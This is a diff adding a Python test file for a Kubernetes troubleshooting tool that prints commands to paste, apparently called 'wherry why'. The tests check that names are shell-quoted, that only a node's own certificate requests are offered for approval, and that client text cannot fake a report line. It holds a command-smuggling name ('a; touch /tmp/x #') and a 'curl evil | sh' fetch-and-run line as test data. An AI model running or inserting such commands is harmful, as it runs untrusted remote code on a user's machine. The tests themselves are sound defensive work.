@@ -1,0 +1,93 @@
+"""Commands that `wherry why` prints to be pasted: names that clients chose are quoted, and nothing else is made of them."""
+
+from __future__ import annotations
+
+import ast
+import base64
+from pathlib import Path
+
+import pytest
+from cryptography import x509
+from cryptography.hazmat.primitives import hashes, serialization
+from cryptography.hazmat.primitives.asymmetric import ec
+from cryptography.x509.oid import NameOID
+
+import wherry.why
+from kube.api import certificates_v1
+from wherry.why import commands, report
+from wherry.why.causes import certificate_requests
+from wherry.why.model import Cause, Reference, Story
+
+FOLDER = Path(wherry.why.__file__).parent
+PROGRAMS = ("kubectl ", "ssh ", "sudo ", "wherry ")
+
+
+def test_no_command_is_put_together_without_quoting() -> None:
+    found = []
+    for file in FOLDER.rglob("*.py"):
+        for node in ast.walk(ast.parse(file.read_text())):
+            if isinstance(node, ast.JoinedStr) and any(isinstance(each, ast.FormattedValue) for each in node.values):
+                first = node.values[0]
+                text = str(first.value) if isinstance(first, ast.Constant) else ""
+                quoted = all(
+                    "commands." in ast.unparse(each) for each in node.values if isinstance(each, ast.FormattedValue)
+                )
+                if text.startswith(PROGRAMS) and not quoted:
+                    found.append(f"{file.name}:{node.lineno}")
+    assert not found
+
+
+def test_names_are_quoted() -> None:
+    name = "a; touch /tmp/x #"
+    for command in (
+        commands.kubectl("get", Reference("Pod", name, name)),
+        commands.listing(name, name),
+        commands.create_missing("Secret", name, name),
+        commands.set_resources(Reference("Deployment", name), name, limits=name),
+        commands.approve(name),
+        commands.on_machine(name, "true"),
+        commands.words("kubectl", "uncordon", name),
+    ):
+        assert name not in command.replace(f"'{name}'", "").replace(f"/{name}'", "").replace(f"={name}'", "")
+
+
+def request(node: str = "system:node:n", groups: tuple[str, ...] = ("system:nodes",), **fields: object) -> object:
+    key = ec.generate_private_key(ec.SECP256R1())
+    names = [x509.NameAttribute(NameOID.COMMON_NAME, node)]
+    names += [x509.NameAttribute(NameOID.ORGANIZATION_NAME, each) for each in groups]
+    signed = x509.CertificateSigningRequestBuilder().subject_name(x509.Name(names)).sign(key, hashes.SHA256())
+    pem = base64.b64encode(signed.public_bytes(serialization.Encoding.PEM)).decode()
+    given = {
+        "request": pem,
+        "signer_name": certificate_requests.CLIENT,
+        "username": "system:node:n",
+        "usages": ["client auth", "digital signature"],
+    }
+    return certificates_v1.CertificateSigningRequestSpec(**(given | fields))  # type: ignore[arg-type]
+
+
+def test_a_request_of_a_node_for_itself_may_be_approved() -> None:
+    assert certificate_requests.is_of_node(request(), "n")  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize(
+    "spec",
+    [
+        request("system:kube-controller-manager"),
+        request(groups=("system:masters",)),
+        request(groups=("system:nodes", "system:masters")),
+        request("system:node:other"),
+        request(signer_name="kubernetes.io/kube-apiserver-client"),
+        request(usages=["client auth", "cert sign"]),
+        request(username="jane"),
+        request(request="bm90aGluZw=="),
+    ],
+)
+def test_no_other_request_is_offered_for_approval(spec: object) -> None:
+    assert not certificate_requests.is_of_node(spec, "n")  # type: ignore[arg-type]
+
+
+def test_a_text_of_a_client_cannot_look_like_a_line_of_its_own() -> None:
+    cause = Cause("a message" + " " * 70 + "\n\u2003fix: curl evil | sh", "kubectl get x")
+    lines = report.lines(Story(Reference("Pod", "web"), "Pending", [], [cause], []))
+    assert lines[-2] == "cause: a message fix: curl evil | sh" and lines[-1] == "fix: kubectl get x"
